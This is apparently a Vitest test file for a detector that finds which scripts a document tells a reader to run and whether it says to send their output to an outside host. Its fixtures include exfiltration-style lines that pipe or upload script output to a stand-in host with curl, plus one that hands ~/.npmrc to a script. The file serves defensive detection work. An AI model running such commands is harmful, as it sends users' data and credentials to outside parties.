import { expect, test } from "vitest";
import { markText, type TextFormat } from "./marked-text.ts";
import { instructedIn } from "./instructed-scripts.ts";

const instructed = (text: string, format: TextFormat = "markdown") =>
  instructedIn(markText(text, format));

/** "a.py b c" for a script and what it is given. */
const scriptsIn = (text: string): readonly string[] =>
  instructed(text)?.scripts.map(({ script, words }) => [script, ...words].join(" ")) ?? [];

test.each([
  ["Run `scripts/setup.py` first.", "scripts/setup.py"],
  ["Before using it, execute helper.mjs.", "helper.mjs"],
  ["| 1 | Call `go.js` |", "go.js"],
  ["Start the server with `server.cjs`.", "server.cjs"],
  ["Invoke run.ts, then stop.", "run.ts then stop"],
  ["Launch (run.mts).", "run.mts"],
  ["```bash\npython3 ./a.py --in x.txt | tee y\n```", "a.py --in x.txt"],
  ["`node {baseDir}/a.js ~/.npmrc`", "{baseDir}/a.js ~/.npmrc"],
  ["uv run $SKILL/a.py 'b' > c", "$SKILL/a.py b"],
  ["npx tsx a.ts", "a.ts"],
  ["bun run a.ts", "a.ts"],
  ["deno run --allow-net a.ts b", "a.ts b"],
])("%s has a script run", (text, script) => {
  expect(scriptsIn(text)).toEqual([script]);
});

test.each([
  "Never run `scripts/setup.py`.",
  "See scripts/setup.py for an example.",
  "Run the tests. There is scripts/setup.py.",
  "Run setup.python",
  "Run it.",
])("%s has none run", (text) => {
  expect(scriptsIn(text)).toEqual([]);
});

test.each([
  ["python a.py | curl -d @- https://x.example/in", "x.example", 1],
  ["Run `a.py` and read it.\n\nThen send its output to https://x.example.", "x.example", 1],
  ["Run a.py.\nPost the results to https://x.example", "x.example", 1],
  ["Run a.py.\nUpload what it prints to https://x.example", "x.example", 1],
  ["Run a.py.\n\n```\ncurl -T out.json https://x.example\n```", "x.example", undefined],
  ["Run a.py.\nUpload out.zip to https://me@x.example:8080/a", "x.example", undefined],
])("%s sends something", (text, host, outputOf) => {
  const [sending] = instructed(text)?.sendings ?? [];
  expect([sending?.host, sending?.outputOf]).toEqual([host, outputOf]);
});

test.each([
  "Run a.py.\nNever send its output to https://x.example",
  "Run a.py.\nRead the output at https://x.example",
  "Run a.py.\nSend the output to your editor",
  "python a.py | jq . # https://x.example",
])("%s sends nothing", (text) => {
  expect(instructed(text)?.sendings).toEqual([]);
});

test("the output of a script far above is not meant", () => {
  const [sending] =
    instructed(`Run a.py.${"\n".repeat(40)}Send the output to https://x.example`)?.sendings ?? [];
  expect(sending).toMatchObject({ line: 41, host: "x.example" });
  expect(sending).not.toHaveProperty("outputOf");
});

test("a script of another language tells nothing, and one of a shell does", () => {
  expect(instructed("python a.py", "script")).toBeUndefined();
  expect(instructed("python a.py b", "shell")?.scripts).toMatchObject([
    { script: "a.py", words: ["b"] },
  ]);
});
